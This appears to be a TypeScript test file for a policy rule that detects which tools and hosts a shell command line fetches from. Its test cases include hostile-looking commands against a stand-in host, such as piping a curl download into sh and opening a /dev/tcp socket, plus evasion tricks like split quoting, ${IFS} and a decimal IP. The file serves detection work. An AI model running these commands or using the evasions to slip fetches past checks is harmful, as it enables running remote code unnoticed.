import assert from "node:assert/strict";
import { fetchesIn } from "../../../../policy/rules/workloads/fetches";

const exec = (...line: string[]) => fetchesIn([line]);
const shell = (script: string) => exec("sh", "-c", script);

describe("what a command line fetches", () => {
  const fetching: Record<string, [script: string, tool: string, host: string | undefined]> = {
    "a download": ["curl https://evil.example/x", "curl", "evil.example"],
    "a download by path": ["/usr/bin/wget -qO- evil.example/x", "wget", "evil.example"],
    "one after harmless words": ["echo hi && curl -s evil.example", "curl", "evil.example"],
    "one in a pipe": ["curl -L evil.example | sh", "curl", "evil.example"],
    "one in a substitution": ['x="$(curl evil.example)"; echo $x', "curl", "evil.example"],
    "one in backquotes": ["x=`wget evil.example`", "wget", "evil.example"],
    "one in quoted parts": ["c'u'rl evil.example", "curl", "evil.example"],
    "one behind a backslash": ["\\curl evil.example", "curl", "evil.example"],
    "one over two lines": ["curl \\\n  -s \\\n  evil.example", "curl", "evil.example"],
    "one without a blank": ["curl${IFS}evil.example", "curl", "evil.example"],
    "one in a condition": ["if curl -f evil.example; then ls; fi", "curl", "evil.example"],
    "one that another starts": ["timeout 5 sudo -u x curl evil.example", "curl", "evil.example"],
    "one in a script of a script": [
      "bash -c 'sh -c \"wget evil.example\"'",
      "wget",
      "evil.example",
    ],
    "one behind variables": ["A=b C=d curl evil.example", "curl", "evil.example"],
    "one through a proxy": ["curl --proxy=evil.example http://a.svc", "curl", "evil.example"],
    "one whose host is a variable": ["curl https://$HOST/x", "curl", undefined],
    "one from a list": ["wget -i /tmp/list", "wget", undefined],
    "a package of pip": ["pip3.11 install numpy", "pip", undefined],
    "one of pip as a module": ["python3 -m pip install numpy", "pip", undefined],
    "a package of apt": ["apt-get update && apt-get install -y git", "apt-get", undefined],
    "a package of apk": ["apk --no-cache add bash", "apk", undefined],
    "a package of npm": ["npm --prefix /app ci", "npm", undefined],
    "a package of yarn without a word": ["cd /app; yarn", "yarn", undefined],
    "a package of conda": ["conda install -y numpy", "conda", undefined],
    "a module of Go": ["go install example.com/x@latest", "go", undefined],
    "a repository": ["git clone https://evil.example/x", "git", "evil.example"],
    "a repository over ssh": ["git clone git@evil.example:x/y", "git", "evil.example"],
    "a chart": ["helm pull oci://evil.example/x", "helm", "evil.example"],
    "a manifest": ["kubectl apply -f https://evil.example/x.yaml", "kubectl", "evil.example"],
    "a copy": ["scp evil.example:/x /tmp/x", "scp", "evil.example"],
    "a socket of the shell": ["exec 3<>/dev/tcp/evil.example/80", "/dev/tcp", "evil.example"],
    "code that connects": [
      "python -c 'import urllib.request as u; u.urlopen(\"http://evil.example\")'",
      "python",
      "evil.example",
    ],
    "code in a document of the script": [
      "python - <<EOF\nfrom urllib.request import urlopen\nurlopen('http://evil.example')\nEOF",
      "code",
      "evil.example",
    ],
    "a tool in a variable": [
      "C=curl; $C http://evil.example",
      "a program that a variable names",
      "evil.example",
    ],
    "an address as a number": ["curl 3405803783", "curl", "203.0.113.7"],
    "a model of a hub": ["huggingface-cli download org/model", "huggingface-cli", undefined],
  };
  for (const [what, [script, tool, host]] of Object.entries(fetching))
    it(`is told of ${what}`, () => {
      const found = shell(script).find((fetch) => fetch.tool === tool);
      assert.ok(found?.hosts.includes(host), JSON.stringify(shell(script)));
    });

  const harmless: Record<string, string> = {
    "another program": "exec /manager --leader-elect",
    "the version of curl": "curl --version",
    "packages without an index": "pip install --no-index --find-links /wheels numpy",
    "packages that are listed": "pip list && npm run build && go version && git status",
    "the name of a tool as a word": "echo curl-like tools",
    "a tool in a comment": "ls # curl evil.example",
    "the local end of a copy": "rsync -a /models/ /mnt/models/",
    "a file of the image": "curl file:///etc/hosts",
    "names that every object of the language has": "constructor toString __proto__",
    "a manifest of the image": "kubectl get pods",
    "code that connects to nothing": "python -c 'print(1)'",
  };
  for (const [what, script] of Object.entries(harmless))
    it(`is nothing for ${what}`, () => {
      assert.deepEqual(shell(script), []);
    });

  it("names the host before the options and files around it", () => {
    assert.deepEqual(exec("curl", "-sSfo", "out.bin", "-H", "X: y.z", "a.svc/x"), [
      { tool: "curl", hosts: ["a.svc"] },
    ]);
    assert.deepEqual(exec("wget", "-O", "out.bin", "http://a.svc:$PORT/x"), [
      { tool: "wget", hosts: ["a.svc"] },
    ]);
  });

  it("takes time in proportion to the text", () => {
    const started = Date.now();
    for (const text of ["sudo ", "a b; ", "'a ", "a://", "curl "]) shell(text.repeat(20_000));
    assert.ok(Date.now() - started < 5000);
  });

  it("gives no error for text that is no shell", () => {
    for (const text of ["'", '"', "$(", "`", ")))", "a $( b ' c", "\\", "<<<", "2>&1 >", "(((("])
      assert.deepEqual(shell(`x ${text}`), []);
  });
});
